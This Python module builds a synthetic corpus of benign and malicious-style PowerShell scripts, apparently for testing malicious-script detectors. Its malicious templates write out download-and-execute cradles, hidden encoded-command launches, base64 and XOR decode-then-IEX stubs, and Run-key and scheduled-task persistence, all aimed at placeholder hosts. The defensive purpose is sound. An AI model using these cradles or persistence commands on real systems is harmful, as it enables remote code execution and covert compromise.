"""Deterministic synthetic corpus of benign- and malicious-style scripts.

Stands in for restricted real-world datasets in tests and desk-scale
experiments.  Malicious templates imitate download-cradle / encoded-
command / persistence surface patterns; benign templates look like
everyday administration scripts.  Everything is inert: URLs use reserved
example domains or TEST-NET addresses and payloads are random filler, so
no generated file is runnable malware.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass
from pathlib import Path

from .corpus import CorpusManifest, ManifestEntry, SourceScript, write_manifest


@dataclass(frozen=True)
class GeneratorSpec:
    seed: int
    n_benign: int
    n_malicious: int
    obfuscation: float = 0.5

    def __post_init__(self):
        if self.n_benign < 0 or self.n_malicious < 0:
            raise ValueError("sample counts must be non-negative")
        if not 0.0 <= self.obfuscation <= 1.0:
            raise ValueError("obfuscation intensity must be in [0, 1]")


_HOSTS = (
    "files.example.com",
    "cdn.example.net",
    "mirror.example.org",
    "update.invalid",
    "repo.test",
    "203.0.113.10",
    "198.51.100.25",
)
_NAMES = ("update", "sync", "cache", "report", "metrics", "backup", "index", "stage", "helper", "agent")
_DIRS = ("C:\\Logs", "C:\\Temp\\work", "C:\\Users\\Public\\data", "D:\\archive", "C:\\ProgramData\\app")
_SERVICES = ("Spooler", "BITS", "WinRM", "Dhcp", "EventLog", "Themes")


def _ident(rng: random.Random) -> str:
    return f"{rng.choice(_NAMES)}{rng.randrange(100, 999)}"


def _url(rng: random.Random, ext: str = "ps1") -> str:
    host = rng.choice(_HOSTS)
    port = f":{rng.randrange(8000, 9999)}" if rng.random() < 0.4 else ""
    return f"http://{host}{port}/{_ident(rng)}.{ext}"


def _blob(rng: random.Random, intensity: float) -> str:
    """Random base64 filler; at full intensity at least 256 characters."""
    if intensity <= 0.0:
        return ""
    n_chars = int(round(intensity * rng.uniform(256, 512)))
    n_bytes = max(3, (n_chars * 3 + 3) // 4)
    raw = bytes(rng.randrange(256) for _ in range(n_bytes))
    return base64.b64encode(raw).decode("ascii")


# ---------------------------------------------------------------------------
# malicious-style templates (surface patterns only, payloads inert)
# ---------------------------------------------------------------------------

def _mal_iex_downloadstring(rng, intensity):
    return f"IEX (New-Object Net.WebClient).DownloadString('{_url(rng)}')"


def _mal_two_stage_cradle(rng, intensity):
    return (
        f"IEX (New-Object Net.WebClient).DownloadString('{_url(rng, 'png')}'); "
        f"MsiMake {_url(rng, 'png')}"
    )


def _mal_encoded_command(rng, intensity):
    blob = _blob(rng, max(intensity, 0.6))
    return f"powershell.exe -nop -w hidden -exec bypass -enc {blob}"


def _mal_webrequest_iex(rng, intensity):
    var = f"$r{rng.randrange(10, 99)}"
    return f"{var} = Invoke-WebRequest -Uri '{_url(rng)}' -UseBasicParsing; IEX {var}.Content"


def _mal_downloadfile_start(rng, intensity):
    name = _ident(rng)
    return (
        f"$wc = New-Object System.Net.WebClient; "
        f"$wc.DownloadFile('{_url(rng, 'exe')}', 'C:\\Temp\\{name}.exe'); "
        f"Start-Process -WindowStyle Hidden 'C:\\Temp\\{name}.exe'"
    )


def _mal_frombase64_iex(rng, intensity):
    blob = _blob(rng, max(intensity, 0.5))
    return (
        f"$b64 = '{blob}'; "
        "$raw = [System.Convert]::FromBase64String($b64); "
        "$cmd = [System.Text.Encoding]::Unicode.GetString($raw); "
        "IEX $cmd"
    )


def _mal_registry_persistence(rng, intensity):
    name = _ident(rng)
    return (
        "$key = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'; "
        f"New-ItemProperty -Path $key -Name '{name}' -Value 'powershell -w hidden -c IEX "
        f"((New-Object Net.WebClient).DownloadString(''{_url(rng)}''))' -Force"
    )


def _mal_schtask_persistence(rng, intensity):
    name = _ident(rng)
    return (
        f"schtasks /create /tn {name} /sc minute /mo 5 /tr "
        f"'powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(''{_url(rng)}'')' /f"
    )


def _mal_bits_transfer(rng, intensity):
    name = _ident(rng)
    return (
        f"Start-BitsTransfer -Source '{_url(rng, 'dat')}' -Destination 'C:\\ProgramData\\{name}.dat'; "
        f"IEX (Get-Content 'C:\\ProgramData\\{name}.dat' | Out-String)"
    )


def _mal_xor_decoder(rng, intensity):
    key = rng.randrange(7, 250)
    var = f"$d{rng.randrange(10, 99)}"
    blob = _blob(rng, max(intensity, 0.4))
    return (
        f"$enc = '{blob}'; "
        f"$bytes = [System.Convert]::FromBase64String($enc); "
        f"{var} = ''; "
        f"foreach ($b in $bytes) {{ {var} += [char]($b -bxor {key}) }}; "
        f"IEX {var}"
    )


# ten templates so a 20-script class covers each surface pattern twice
_MALICIOUS_TEMPLATES = (
    ("iex-downloadstring", _mal_iex_downloadstring),
    ("two-stage-cradle", _mal_two_stage_cradle),
    ("encoded-command", _mal_encoded_command),
    ("webrequest-iex", _mal_webrequest_iex),
    ("downloadfile-start", _mal_downloadfile_start),
    ("frombase64-iex", _mal_frombase64_iex),
    ("registry-persistence", _mal_registry_persistence),
    ("schtask-persistence", _mal_schtask_persistence),
    ("bits-transfer", _mal_bits_transfer),
    ("xor-decoder", _mal_xor_decoder),
)


# ---------------------------------------------------------------------------
# benign-style templates
# ---------------------------------------------------------------------------

def _ben_list_files(rng, intensity):
    return (
        f"# list recent files\n"
        f"Get-ChildItem '{rng.choice(_DIRS)}' -Recurse | "
        f"Sort-Object LastWriteTime | Select-Object -First {rng.randrange(5, 40)}"
    )


def _ben_service_query(rng, intensity):
    return (
        f"$svc = Get-Service '{rng.choice(_SERVICES)}'\n"
        "if ($svc.Status -eq 'Running') { Write-Output 'service is up' } "
        "else { Write-Output 'service is down' }"
    )


def _ben_log_rotation(rng, intensity):
    days = rng.randrange(7, 90)
    return (
        f"$cutoff = (Get-Date).AddDays(-{days})\n"
        f"foreach ($f in (Get-ChildItem '{rng.choice(_DIRS)}' -Filter '*.log')) "
        "{ if ($f.LastWriteTime -lt $cutoff) { Remove-Item $f.FullName } }"
    )


def _ben_disk_report(rng, intensity):
    return (
        "$drives = Get-PSDrive -PSProvider FileSystem\n"
        "$drives | Select-Object Name, Used, Free | Format-Table\n"
        f"Out-File -FilePath '{rng.choice(_DIRS)}\\disk_{_ident(rng)}.txt'"
    )


def _ben_process_snapshot(rng, intensity):
    n = rng.randrange(5, 25)
    return (
        f"Get-Process | Sort-Object CPU | Select-Object -Last {n} | "
        f"Format-Table Name, Id, CPU"
    )


def _ben_backup_copy(rng, intensity):
    src = rng.choice(_DIRS)
    name = _ident(rng)
    return (
        f"$dest = 'D:\\backup\\{name}'\n"
        f"if (Test-Path $dest) {{ Write-Verbose 'destination exists' }} "
        f"else {{ New-Item -ItemType Directory -Path $dest }}\n"
        f"Copy-Item -Path '{src}\\*' -Destination $dest -Recurse"
    )


def _ben_event_summary(rng, intensity):
    n = rng.randrange(20, 100)
    return (
        f"Get-EventLog -LogName System -Newest {n} | "
        "Group-Object EntryType | Format-Table Name, Count"
    )


def _ben_csv_export(rng, intensity):
    name = _ident(rng)
    return (
        f"$rows = Get-Service | Select-Object Name, Status\n"
        f"$rows | Export-Csv -Path 'C:\\Temp\\{name}.csv' -NoTypeInformation"
    )


def _ben_uptime_function(rng, intensity):
    fn = f"Get-Uptime{rng.randrange(10, 99)}"
    return (
        f"function {fn} {{\n"
        "    $os = Get-CimInstance Win32_OperatingSystem\n"
        "    $os.LastBootUpTime\n"
        "}\n"
        f"{fn}"
    )


def _ben_temp_cleanup(rng, intensity):
    ext = rng.choice(("tmp", "bak", "old"))
    return (
        f"$old = Get-ChildItem 'C:\\Temp' -Filter '*.{ext}'\n"
        "foreach ($f in $old) { Remove-Item $f.FullName -ErrorAction SilentlyContinue }\n"
        "Write-Output 'cleanup complete'"
    )


def _ben_ping_check(rng, intensity):
    host = rng.choice(("uc.edu", "www.example.com", "intranet.example.org"))
    return f"ping -c 4 -t 64 {host}"


def _ben_counter_loop(rng, intensity):
    n = rng.randrange(3, 12)
    return (
        f"$total = 0\n"
        f"for ($i = 0; $i -lt {n}; $i++) {{ $total += $i }}\n"
        "Write-Output $total"
    )


_BENIGN_TEMPLATES = (
    ("list-files", _ben_list_files),
    ("service-query", _ben_service_query),
    ("log-rotation", _ben_log_rotation),
    ("disk-report", _ben_disk_report),
    ("process-snapshot", _ben_process_snapshot),
    ("backup-copy", _ben_backup_copy),
    ("event-summary", _ben_event_summary),
    ("csv-export", _ben_csv_export),
    ("uptime-function", _ben_uptime_function),
    ("temp-cleanup", _ben_temp_cleanup),
    ("ping-check", _ben_ping_check),
    ("counter-loop", _ben_counter_loop),
)


def _make_script(seed: int, label: int, index: int, intensity: float) -> tuple[SourceScript, str]:
    # independent per-script substream so parallel generation stays stable
    rng = random.Random(f"{seed}:{label}:{index}")
    templates = _MALICIOUS_TEMPLATES if label == 1 else _BENIGN_TEMPLATES
    family, render = templates[index % len(templates)]
    text = render(rng, intensity)
    if label == 1 and intensity >= 1.0 and _blob_missing(text):
        # full intensity: guarantee an embedded blob even for blob-free templates
        text = f"$stage0 = '{_blob(rng, 1.0)}'\n" + text
    tag = "m" if label == 1 else "b"
    script = SourceScript(
        id=f"synth-{tag}-{index:04d}",
        text=text,
        label=label,
        origin=f"synth:{family}",
    )
    return script, family


def _blob_missing(text: str) -> bool:
    # a full-intensity blob is >= 256 base64 chars in a row
    run = 0
    alphabet = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=")
    for ch in text:
        run = run + 1 if ch in alphabet else 0
        if run >= 256:
            return False
    return True


def generate(spec: GeneratorSpec) -> list[SourceScript]:
    """Produce the corpus for ``spec``; same spec, same bytes."""
    scripts = [
        _make_script(spec.seed, 0, i, spec.obfuscation)[0] for i in range(spec.n_benign)
    ]
    scripts.extend(
        _make_script(spec.seed, 1, i, spec.obfuscation)[0] for i in range(spec.n_malicious)
    )
    return scripts


def write_corpus(spec: GeneratorSpec, out_dir: str | Path) -> tuple[CorpusManifest, list[SourceScript]]:
    """Write scripts plus a ``manifest.csv`` into ``out_dir``."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    entries: list[ManifestEntry] = []
    scripts: list[SourceScript] = []
    for label, count in ((0, spec.n_benign), (1, spec.n_malicious)):
        for i in range(count):
            script, family = _make_script(spec.seed, label, i, spec.obfuscation)
            kind = "malicious" if label == 1 else "benign"
            filename = f"{kind}_{i:04d}.ps1"
            (out_dir / filename).write_text(script.text, encoding="utf-8")
            entries.append(ManifestEntry(filename, label, family))
            scripts.append(script)
    manifest = CorpusManifest(entries, base_dir=out_dir)
    write_manifest(manifest, out_dir / "manifest.csv")
    return manifest, scripts
